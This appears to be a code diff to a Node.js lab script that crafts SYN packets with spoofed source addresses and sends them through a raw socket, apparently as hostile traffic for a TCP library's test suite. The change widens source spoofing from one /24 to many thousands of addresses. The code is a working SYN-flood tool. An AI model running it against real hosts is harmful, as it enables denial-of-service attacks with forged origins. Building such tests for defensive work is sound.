@@ -1,6 +1,7 @@
 // A SYN flood from spoofed sources, crafted with tcplab's codecs and sent through a raw socket from one
-// side of a lab (test/hostile/synflood.test.ts). Sources cycle through `sources` addresses of the lab's
-// /24 that no host holds (so every SYN+ACK goes nowhere), with random ports and sequence numbers and the
+// side of a lab (test/hostile/synflood.test.ts). Sources cycle through `sources` consecutive addresses
+// from `firstSource` (counting on past the last octet: 20,000 sources from 198.19.0.0 reach 198.19.78.31)
+// that no host holds (so every SYN+ACK goes nowhere), with random ports and sequence numbers and the
 // options a Linux client sends. Paced at `rate` SYNs per second in 10 ms slices.
 //   node flood.mjs '<json>'   {dst, port, count, rate, firstSource, sources, seed}
 // stdin "count" → {type:'count', sent}. At the end: {type:'done', sent, sendErrors, ms}.
@@ -14,6 +15,7 @@ const o = JSON.parse(process.argv[2])
 const emit = (v) => process.stdout.write(`${JSON.stringify(v)}\n`)
 const dst = parseIp(o.dst)
 const base = parseIp(o.firstSource)
+const base32 = ((base[0] << 24) | (base[1] << 16) | (base[2] << 8) | base[3]) >>> 0
 const rnd = mulberry32(o.seed).nextU32
 
 const dev = openRawDevice({ family: 4 })
@@ -34,7 +36,11 @@ const perSlice = Math.max(1, Math.round(o.rate / 100))
 while (sent < o.count) {
   const sliceStart = performance.now()
   for (let k = 0; k < perSlice && sent < o.count; k++, sent++) {
-    src[3] = base[3] + (sent % o.sources)
+    const a = (base32 + (sent % o.sources)) >>> 0
+    src[0] = a >>> 24
+    src[1] = (a >>> 16) & 0xff
+    src[2] = (a >>> 8) & 0xff
+    src[3] = a & 0xff
     syn.srcPort = 1024 + (Math.floor(sent / o.sources) % 64000)
     syn.seq = rnd()
     options[2].value = rnd()
